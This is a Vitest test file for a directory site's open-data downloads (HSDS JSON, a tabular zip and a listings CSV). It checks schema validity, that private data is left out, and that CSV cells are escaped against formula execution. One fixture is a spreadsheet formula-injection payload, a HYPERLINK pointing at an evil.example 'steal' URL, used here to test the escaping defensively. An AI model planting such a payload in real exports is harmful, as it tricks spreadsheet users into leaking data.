// Someone downloads the whole directory from the Open data page: the HSDS
// JSON document and the tabular zip validate against the official schemas
// and carry the same listings, the spreadsheet CSV cannot run formulas, and
// nothing private or unpublished is in any of them.
import fs from 'node:fs';
import path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { db } from '../support/db.ts';
import { csvRecords } from '../support/csv-parse.ts';
import { HSDS_DIR, hasHsds, readSchema, schemaErrors, SHARED_MISSING } from '../support/hsds-schemas.ts';
import { createOpenDataFixtures, PRIVATE_STRINGS } from '../support/open-data-fixtures.ts';
import { buildGroup, createGroup } from '../../prisma/seed/factories.ts';
import { newStaffCredentials, seedDatabase } from '../../prisma/seed/index.ts';
import { GET as hsdsJson } from '../../app/api/open-data/hsds.json/route.ts';
import { GET as hsdsZip } from '../../app/api/open-data/hsds-tabular.zip/route.ts';
import { GET as listingsCsv } from '../../app/api/open-data/listings.csv/route.ts';

type Json = { [key: string]: unknown };
const get = (handler: (r: Request) => Promise<Response>, headers: Record<string, string> = {}) => handler(new Request('http://localhost/x', { headers }));

const FORMULA = '=HYPERLINK("http://evil.example/steal","Click for help")';
let published = 0;

beforeAll(async () => {
  await seedDatabase(db, newStaffCredentials());
  await createOpenDataFixtures(db);
  await createGroup(db, buildGroup({ slug: 'open-data-formula-summary', name: '@Formula Circle', summary: FORMULA, phone: '+1 613 555 0100' }));
  published = await db.group.count({ where: { status: 'PUBLISHED' } });
}, 240_000);

describe.skipIf(!hasHsds)(hasHsds ? 'the HSDS downloads' : `the HSDS downloads (${SHARED_MISSING})`, () => {
  it('gives the whole directory as one HSDS JSON document valid against compiled/service_package.json, published listings only, nothing private', async () => {
    const res = await get(hsdsJson);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('directory-hsds.json');
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    const text = await res.text();
    const doc = JSON.parse(text) as Json[];
    expect(doc).toHaveLength(published);
    expect(schemaErrors('compiled/service_package.json', doc).slice(0, 5)).toEqual([]);
    for (const secret of [...PRIVATE_STRINGS, 'Open Data Draft Circle', 'Open Data Archived Circle']) expect(text).not.toContain(secret);
  });

  it('gives the tabular zip: the specification’s CSV headers, a datapackage.json describing them, rows valid against each table’s schema and linked by id', async () => {
    const res = await get(hsdsZip);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const pkg = JSON.parse(strFromU8(files['datapackage.json']!)) as { resources: { name: string; path: string; schema: { fields: { name: string; type: string }[] } }[] };
    const ids = new Map<string, Set<string>>();
    const all: Record<string, Record<string, string>[]> = {};
    for (const resource of pkg.resources) {
      const text = strFromU8(files[resource.path]!);
      for (const secret of PRIVATE_STRINGS) expect(text, resource.path).not.toContain(secret);
      const { header, records } = csvRecords(text);
      const example = fs.readFileSync(path.join(HSDS_DIR, 'examples', 'csv', resource.path), 'utf8').split(/\r?\n/)[0];
      expect(header.join(','), resource.path).toBe(example);
      expect(resource.schema.fields.map((f) => f.name)).toEqual(header);
      const schema = readSchema(`${resource.name}.json`);
      expect(schema.path).toBe(resource.path);
      for (const record of records) {
        // Typed as the data package says; an empty cell is a missing value.
        const typed: Json = {};
        for (const f of resource.schema.fields) {
          const cell = record[f.name] ?? '';
          if (cell !== '') typed[f.name] = f.type === 'number' ? Number(cell) : cell;
        }
        expect(schemaErrors(`${resource.name}.json`, typed), `${resource.path} ${record.id}`).toEqual([]);
      }
      ids.set(resource.name, new Set(records.map((r) => r.id ?? '')));
      all[resource.name] = records;
    }
    expect(ids.get('service')?.size).toBe(published);
    const refersTo = (table: string, column: string, target: string) => {
      for (const r of all[table] ?? []) if (r[column]) expect(ids.get(target)?.has(r[column]!), `${table}.${column} ${r[column]}`).toBe(true);
    };
    refersTo('service', 'organization_id', 'organization');
    refersTo('service_at_location', 'service_id', 'service');
    refersTo('service_at_location', 'location_id', 'location');
    refersTo('schedule', 'service_at_location_id', 'service_at_location');
    refersTo('address', 'location_id', 'location');
    refersTo('attribute', 'taxonomy_term_id', 'taxonomy_term');
    refersTo('taxonomy_term', 'taxonomy_id', 'taxonomy');
    // A phone number stays a phone number in the data files.
    expect(all.phone?.map((p) => p.number)).toContain('+1 613 555 0100');
  });

  it('answers 304 when the directory has not changed since the last download', async () => {
    const first = await get(hsdsZip);
    const again = await get(hsdsZip, { 'If-None-Match': first.headers.get('etag') ?? '' });
    expect(again.status).toBe(304);
  });
});

describe('the listings CSV for spreadsheets', () => {
  it('has one line per meeting of every published group, and no cell a spreadsheet would run as a formula', async () => {
    const res = await get(listingsCsv);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const { header, records } = csvRecords(text);
    expect(header[0]).toBe('group');
    const meetings = await db.meeting.count({ where: { group: { status: 'PUBLISHED' } } });
    const withoutMeetings = await db.group.count({ where: { status: 'PUBLISHED', meetings: { none: {} } } });
    expect(records).toHaveLength(meetings + withoutMeetings);
    for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const formula = records.find((r) => r.group === "'@Formula Circle");
    expect(formula?.summary).toBe(`'${FORMULA}`);
    expect(formula?.phone).toBe("'+1 613 555 0100");
    for (const secret of [...PRIVATE_STRINGS, 'Open Data Draft Circle']) expect(text).not.toContain(secret);
  });
});
